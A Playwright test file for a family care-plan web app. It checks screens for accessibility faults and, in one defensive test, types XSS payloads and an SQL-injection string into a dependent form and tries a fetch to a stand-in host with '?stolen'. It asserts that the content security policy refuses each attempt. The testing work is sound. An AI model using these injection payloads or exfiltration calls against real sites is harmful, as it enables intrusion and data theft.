import type { Page } from '@playwright/test'
import { faultsOn, OF_COLOUR } from '#tests/support/axe.ts'
import { fillAccount, joinUntilCode } from '#tests/support/joining.ts'
import { expect, test } from '#tests/support/journey.ts'
import { pdf } from '#tests/support/sample-files.ts'
import { CARE_PLAN, choosePerson, EMERGENCY, logOut, profileMenu } from '#tests/support/screens.ts'

interface Screen {
  name: string
  path: string
  /** What stands on the screen when it is ready. */
  ready: (page: Page) => ReturnType<Page['getByRole']>
  /** What a person opens there before it is looked at. */
  open?: (page: Page) => Promise<void>
}

const heading = (name: string | RegExp) => (page: Page) => page.getByRole('heading', { level: 1, name })
const dialog = (name: string) => (page: Page) => page.getByRole('dialog', { name })

const SIGNED_OUT: Screen[] = [
  { name: 'home', path: '/', ready: heading(/./) },
  { name: 'sign-in', path: '/login', ready: heading('Log In') },
  {
    name: 'sign-up with faults',
    path: '/login?step=account',
    ready: (page) => page.getByText('Please choose a password.'),
    open: (page) => page.getByRole('button', { name: 'Continue' }).click(),
  },
  {
    name: 'personal details with faults',
    path: '/login?step=account',
    ready: (page) => page.getByText('Please enter your first name.'),
    open: async (page) => {
      await fillAccount(page)
      await page.getByRole('button', { name: 'Continue' }).click()
    },
  },
  {
    name: 'terms',
    path: '/login?step=account',
    ready: dialog('Terms and privacy'),
    open: async (page) => {
      await fillAccount(page)
      await page.getByRole('button', { name: 'Read the terms and the privacy promise' }).click()
    },
  },
  {
    name: 'one-time code with a fault',
    path: '/login?step=account',
    ready: (page) => page.getByText('Please enter the 6 digits of the code.'),
    open: async (page) => {
      await joinUntilCode(page)
      await page.getByRole('button', { name: 'Confirm Code' }).click()
    },
  },
  { name: 'forgotten password', path: '/forgot-password', ready: heading('Forgot password') },
  {
    name: 'link for a new password on its way',
    path: '/forgot-password',
    ready: (page) => page.getByText(/^A password reset link has been sent/),
    open: async (page) => {
      await page.getByLabel('Email').fill('somebody@family.example')
      await page.getByRole('button', { name: 'Send Email' }).click()
    },
  },
  { name: 'expired link', path: '/forgot-password?token=old', ready: heading('Token Expired') },
  {
    name: 'new password with a fault',
    path: `/forgot-password?token=e30.${Buffer.from('{"exp":9999999999}').toString('base64url')}.x`,
    ready: (page) => page.getByText('Passwords do not match'),
    open: async (page) => {
      await page.getByLabel('New password').fill('lemon tram quiet')
      await page.getByRole('button', { name: 'Save' }).click()
    },
  },
]

const SIGNED_IN: Screen[] = [
  { name: 'dashboard', path: '/dashboard', ready: heading(/^Good /) },
  { name: 'care plan', path: CARE_PLAN, ready: heading('Care plan') },
  {
    name: 'care plan being edited',
    path: CARE_PLAN,
    ready: (page) => page.getByRole('button', { name: 'Save' }),
    open: async (page) => {
      await page.getByRole('button', { name: 'Basic Information: menu' }).click()
      await page.getByRole('menuitem', { name: 'Edit' }).click()
    },
  },
  { name: 'emergency view', path: EMERGENCY, ready: heading('Maya Okafor') },
  {
    name: 'medications',
    path: '/dashboard/medication',
    ready: (page) => page.getByRole('button', { name: /^Melatonin/ }),
  },
  {
    name: 'details of a medicine',
    path: '/dashboard/medication',
    ready: dialog('Melatonin'),
    open: (page) =>
      page
        .getByRole('button', { name: /^Melatonin/ })
        .first()
        .click(),
  },
  {
    name: 'details of a vaccination',
    path: '/dashboard/vaccinations',
    ready: dialog('COVID-19, mRNA'),
    open: (page) => page.getByRole('button', { name: /^COVID-19/ }).click(),
  },
  {
    name: 'details of a visit note',
    path: '/dashboard/dr-visit-notes',
    ready: (page) => page.getByRole('button', { name: 'Open the document' }),
    open: (page) => page.getByRole('button', { name: 'Seizure plan for school: details' }).first().click(),
  },
  {
    name: 'import',
    path: '/dashboard/import',
    ready: (page) =>
      page.locator('iframe[title="Import Records"]').contentFrame().getByText('Whose records are these?'),
  },
  {
    name: 'visit notes without a match',
    path: '/dashboard/dr-visit-notes',
    ready: (page) => page.getByRole('button', { name: 'Show all' }),
    open: (page) => page.getByRole('searchbox', { name: 'Search' }).fill('zzz'),
  },
  {
    name: 'journal',
    path: '/dashboard/journal',
    ready: (page) => page.getByRole('gridcell', { name: /, answered$/ }).first(),
  },
  {
    name: 'question of a day',
    path: '/dashboard/journal',
    ready: (page) => page.getByRole('dialog').getByLabel('Answer', { exact: true }),
    open: (page) =>
      page
        .getByRole('main')
        .getByRole('button', { name: /^(Answer|Read or change)$/ })
        .click(),
  },
  {
    name: 'month to read',
    path: '/dashboard/journal?view=read',
    ready: (page) => page.getByRole('button', { name: 'Print' }),
  },
  {
    name: 'search in the journal',
    path: '/dashboard/journal?view=search',
    ready: (page) => page.getByRole('button', { name: 'Show more' }),
    open: (page) => page.getByLabel('Words to look for').fill('the'),
  },
  {
    name: 'attributes',
    path: '/dashboard/attributes',
    ready: (page) => page.getByRole('region', { name: 'Calming Strategy' }).getByRole('listitem').first(),
  },
  {
    name: 'attributes being edited',
    path: '/dashboard/attributes',
    ready: (page) => page.getByRole('region', { name: 'Interests' }).getByRole('textbox'),
    open: async (page) => {
      await page
        .getByRole('button', { name: /icon and color$/ })
        .first()
        .click()
      await page.getByRole('button', { name: 'Add an interest' }).click()
    },
  },
  { name: 'dependents', path: '/dashboard/dependents', ready: heading('Dependents') },
  {
    name: 'dependent form',
    path: '/dashboard/dependents',
    ready: dialog('Add Dependent'),
    open: (page) => page.getByRole('button', { name: 'Add Dependent' }).click(),
  },
  {
    name: 'waiting to send',
    path: '/dashboard',
    ready: dialog('Waiting to send'),
    open: async (page) => {
      await page.getByRole('banner').getByRole('status').getByRole('button').click()
      await page.getByRole('dialog').getByText('History').click()
    },
  },
  {
    name: 'profile menu',
    path: '/dashboard',
    ready: (page) => page.getByRole('menu'),
    open: (page) => profileMenu(page).click(),
  },
  {
    name: 'calm display',
    path: '/dashboard',
    ready: (page) => page.getByRole('dialog'),
    open: async (page) => {
      await profileMenu(page).click()
      await page.getByRole('menuitem', { name: 'Calm display' }).click()
    },
  },
  { name: 'documents', path: '/dashboard/educational', ready: (page) => page.getByRole('list', { name: 'Folders' }) },
  {
    name: 'new folder',
    path: '/dashboard/educational',
    ready: dialog('New folder'),
    open: (page) => page.getByRole('button', { name: 'New folder' }).first().click(),
  },
  {
    name: 'upload with a file at fault and one that is taken',
    path: '/dashboard/educational',
    ready: (page) => page.getByText('What is in this file is not what its name says.'),
    open: async (page) => {
      await page.getByRole('button', { name: 'Upload', exact: true }).click()
      await page
        .getByRole('dialog')
        .locator('input[type=file][multiple]')
        .setInputFiles([
          { name: 'Plan.pdf', mimeType: 'application/pdf', buffer: pdf(['Plan']) },
          { name: 'not a photo.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('text') },
        ])
      await page.getByText('What is in this file is not what its name says.').waitFor()
      await page.getByRole('dialog').getByRole('button', { name: 'Upload', exact: true }).click()
      await page.getByRole('dialog').getByRole('listitem').filter({ hasText: 'Plan.pdf' }).waitFor({ state: 'hidden' })
    },
  },
  {
    name: 'document being renamed, in a list',
    path: '/dashboard/educational',
    ready: (page) => page.getByRole('textbox', { name: 'Document name' }),
    open: async (page) => {
      await page.getByRole('button', { name: 'List view' }).click()
      await page.getByRole('button', { name: 'Edit Plan.pdf' }).first().click()
    },
  },
  {
    name: 'a PDF',
    path: '/dashboard/educational',
    ready: (page) => page.getByText('Page 1 of 1'),
    open: (page) => page.getByRole('link', { name: 'Plan.pdf' }).first().click(),
  },
  {
    name: 'account',
    path: '/dashboard/account',
    ready: (page) => page.getByRole('region', { name: 'Signed-in devices' }).getByRole('listitem').first(),
  },
  {
    name: 'details being edited',
    path: '/dashboard/account',
    ready: (page) => page.getByRole('region', { name: 'Your details' }).getByRole('button', { name: 'Save' }),
    open: (page) => page.getByRole('button', { name: 'Edit details' }).click(),
  },
  {
    name: 'question before an account is deleted',
    path: '/dashboard/account',
    ready: dialog('Delete your account?'),
    open: (page) => page.getByRole('main').getByRole('button', { name: 'Delete account' }).click(),
  },
  { name: 'not found', path: '/dashboard/no-such-page', ready: (page) => page.getByText('Page not found') },
]

/** Complaints of the browser: refused by the content security policy or Trusted Types, or an error nobody caught. */
function complaints(page: Page): string[] {
  const heard: string[] = []
  page.on('pageerror', (error) => heard.push(error.message))
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted/.test(message.text())) heard.push(message.text())
  })
  return heard
}

/** The early painting of a care plan has given way to the screen itself. */
const isHandedOver = (page: Page) =>
  page.waitForFunction(() => document.getElementById('boot')?.childElementCount === 0)

/** Colours that change slowly have arrived; what turns for ever may go on. */
const isSettled = (page: Page) =>
  page.waitForFunction(() => document.getAnimations().every((animation) => !(animation instanceof CSSTransition)))

/** Each screen is loaded in the first of the two themes and put into the other as it stands. */
async function look(page: Page, themes: readonly Theme[], { name, path, ready, open }: Screen): Promise<void> {
  await test.step(name, async () => {
    await page.goto(path)
    await open?.(page)
    await expect(ready(page)).toBeVisible()
    await isHandedOver(page)
    for (const theme of themes) {
      await page.emulateMedia({ colorScheme: theme })
      await isSettled(page)
      // All rules in the light theme, those of colour in the dark one.
      expect.soft(await faultsOn(page, theme === 'light' ? undefined : OF_COLOUR), `${name}, ${theme}`).toEqual([])
      const isScrolling = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth)
      expect.soft(isScrolling, `${name}, ${theme}, scrolls sideways`).toBe(false)
    }
    await page.emulateMedia({ colorScheme: themes[0] })
  })
}

type Theme = 'light' | 'dark'

/** The phone starts in the light, the laptop in the dark: each theme is also what pages are loaded in. */
const WALKS: { viewport: { width: number; height: number }; themes: [Theme, Theme] }[] = [
  { viewport: { width: 390, height: 844 }, themes: ['light', 'dark'] },
  { viewport: { width: 1280, height: 800 }, themes: ['dark', 'light'] },
]

for (const { viewport, themes } of WALKS) {
  const [colorScheme] = themes
  const where = `light and dark, ${viewport.width} wide`

  test(`every screen without a sign-in is free of axe findings and of refused scripts, ${where}`, async ({ home }) => {
    test.setTimeout(180_000)
    const page = await home.device.open('/', { colorScheme, viewport })
    const heard = complaints(page)
    for (const screen of SIGNED_OUT) await look(page, themes, screen)
    expect(heard).toEqual([])
  })

  test(`every screen behind the sign-in is free of axe findings and of refused scripts, ${where}`, async ({
    signedIn: home,
  }) => {
    test.setTimeout(240_000)
    const page = await home.device.openSignedIn({ colorScheme, viewport })
    const heard = complaints(page)
    await choosePerson(page, 'Maya')
    for (const screen of SIGNED_IN) await look(page, themes, screen)
    expect(heard).toEqual([])
  })
}

test('script that came in as text, or from anywhere else, never runs', async ({ signedIn: home }) => {
  const page = await home.device.openSignedIn()
  const hostile = '<img src=x onerror="globalThis.wasRun=true"><script>globalThis.wasRun=true</script>'

  await test.step('as a name', async () => {
    await page.goto('/dashboard/dependents')
    await page.getByRole('button', { name: 'Add Dependent' }).click()
    const form = page.getByRole('dialog', { name: 'Add Dependent' })
    await form.getByLabel('First Name').fill(hostile.slice(0, 60))
    await form.getByLabel('Last Name').fill('"><svg onload=globalThis.wasRun=true>')
    await form.getByLabel('Date of Birth').fill('2015-03-14')
    await form.getByLabel('Gender').selectOption('Other')
    await form.getByLabel('Relationship').fill("'; drop table users; --")
    await form.getByRole('button', { name: 'Save' }).click()
    await expect(page.getByRole('main').getByText(hostile.slice(0, 60)).first()).toBeVisible()
    await expect(page.getByRole('main').getByText("'; drop table users; --").first()).toBeVisible()
  })

  const refused = await page.evaluate(async () => {
    const outcomes: Record<string, string> = {}
    const attempt = (name: string, run: () => void) => {
      try {
        run()
        outcomes[name] = 'allowed'
      } catch {
        outcomes[name] = 'refused'
      }
    }
    attempt('innerHTML', () => {
      document.createElement('div').innerHTML = '<b>bold</b>'
    })
    attempt('another policy', () => {
      const factory = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
        .trustedTypes
      factory.createPolicy('stranger', {})
    })
    attempt('a worker from elsewhere', () => void new Worker('https://elsewhere.example/worker.js'))
    const elsewhere = await fetch('https://elsewhere.example/?stolen').then(
      () => 'allowed',
      () => 'refused',
    )
    return { ...outcomes, elsewhere, wasRun: 'wasRun' in globalThis }
  })
  expect(refused).toEqual({
    innerHTML: 'refused',
    'another policy': 'refused',
    'a worker from elsewhere': 'refused',
    elsewhere: 'refused',
    wasRun: false,
  })
})

test('after the Logout nothing of the dashboard can be opened by going back', async ({ signedIn: home }) => {
  const page = await home.device.openSignedIn()
  await page.goto(CARE_PLAN)
  await expect(page.getByRole('heading', { level: 1, name: 'Care plan' })).toBeVisible()
  await logOut(page)
  await expect(page).toHaveURL('/')
  await page.goBack()
  await expect(page).toHaveURL('/login')
  await expect(page.locator('body')).not.toContainText('Zigzag lights')
})
